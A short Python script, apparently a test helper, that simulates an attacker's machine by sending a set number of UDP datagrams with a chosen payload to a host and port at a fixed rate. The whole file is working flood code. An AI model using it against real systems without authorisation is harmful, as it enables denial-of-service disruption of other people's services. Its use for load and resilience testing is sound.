"""Sends as much as one attacker's machine can: `flood.py DESCRIPTOR HOST PORT PACKETS PER_SECOND
PAYLOAD_HEX`.
"""

import socket
import sys
import time


def main() -> None:
    descriptor, host, port, packets, per_second, payload = sys.argv[1:]
    sending = socket.socket(fileno=int(descriptor))
    sending.setblocking(True)
    target, datagram = (host, int(port)), bytes.fromhex(payload)
    began = time.monotonic()
    for number in range(int(packets)):
        if number % 64 == 0:
            ahead = began + number / float(per_second) - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        sending.sendto(datagram, target)
    print(time.monotonic() - began)


main()
